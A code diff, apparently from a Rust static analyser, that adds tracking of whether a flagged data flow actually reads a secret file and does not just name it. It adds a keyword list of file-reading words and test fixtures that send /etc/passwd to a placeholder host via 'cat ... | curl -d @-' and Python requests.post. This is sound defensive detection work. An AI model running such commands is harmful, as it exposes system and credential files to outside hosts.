@@ -93,6 +93,8 @@ pub(crate) struct Flow {
     pub(crate) labels: Labels,
     /// The name of the file or store of the credentials, as written in the text.
     pub(crate) secret: Option<String>,
+    /// Whether one of the statements reads a file. Otherwise, the value may be only the name of a secret file.
+    pub(crate) is_read: bool,
     /// The origin or the destination of the value: the most suspicious address in the statement and in the values that
     /// it uses.
     pub(crate) address: Option<Address>,
@@ -110,6 +112,7 @@ impl Flow {
             is_lookup: false,
             labels: value.labels,
             secret: value.secret,
+            is_read: value.is_read,
             address: value.address,
         }
     }
@@ -131,12 +134,15 @@ impl Flow {
 struct Value {
     labels: Labels,
     secret: Option<String>,
+    /// See [`Flow::is_read`].
+    is_read: bool,
     address: Option<Address>,
 }
 
 impl Value {
     fn add(&mut self, other: &Self) {
         self.labels.add(other.labels);
+        self.is_read |= other.is_read;
         if self.secret.is_none() {
             self.secret.clone_from(&other.secret);
         }
@@ -276,6 +282,7 @@ pub(crate) fn flows(
         if value.is_empty() {
             continue;
         }
+        value.is_read |= value.labels.has(Labels::SECRET) && reads(statement.part);
         let holds = value.labels != Labels::default();
         let is_run = holds && (statement.is_callback() || names.run_by(statement.part));
         if is_run && value.labels.has(Labels::DOWNLOAD) {
@@ -298,6 +305,7 @@ pub(crate) fn flows(
                 is_lookup: statement.has(Signal::DnsLookup),
                 labels: value.labels,
                 secret: value.secret.clone(),
+                is_read: value.is_read,
                 address: value.address.clone(),
             };
             flow.add_to(&mut found, left_out);
@@ -333,6 +341,33 @@ impl Statement<'_> {
 fn is_comment(part: &str) -> bool {
     let part = part.trim();
     ["# ", "// "].iter().any(|sign| part.starts_with(sign)) && !part.contains('\n')
+}
+
+/// Returns whether a statement contains a word for reading a file.
+fn reads(part: &str) -> bool {
+    const WORDS: [&str; 20] = [
+        "open(",
+        "open ",
+        "read",
+        "Read",
+        "READ",
+        "cat ",
+        "Get-Content",
+        "gc ",
+        "slurp",
+        "copy",
+        "cp ",
+        "tar ",
+        "zip",
+        "base64",
+        "sync ",
+        "curl",
+        "get_contents",
+        "exec",
+        "@",
+        "<",
+    ];
+    WORDS.iter().any(|word| part.contains(word))
 }
 
 /// Returns the kind of data that a signal adds to a value.
@@ -786,6 +821,27 @@ mod tests {
             let code = [Span::new(0, text.len())];
             flows(&text, &matches, &code, &left_out, &Stop::default());
             assert_eq!(left_out.is_noted(), expected, "{text:.40}");
+        }
+    }
+
+    #[test]
+    fn a_name_of_a_file_is_told_from_its_content() {
+        for (text, expected) in [
+            (
+                "for p in ['/etc/passwd']:\n    requests.post(U, json={'path': p})",
+                false,
+            ),
+            (
+                "for p in ['/etc/passwd']:\n    d = open(p).read()\n    requests.post(U, json=d)",
+                true,
+            ),
+            ("cat /etc/passwd | curl -d @- https://a.invalid", true),
+        ] {
+            let matches = matches_of(text);
+            let code = [Span::new(0, text.len())];
+            let flows = flows(text, &matches, &code, &LeftOut::default(), &Stop::default());
+            let sent = flows.iter().find(|flow| flow.sink == Sink::Send);
+            assert_eq!(sent.map(|flow| flow.is_read), Some(expected), "{text}");
         }
     }
 
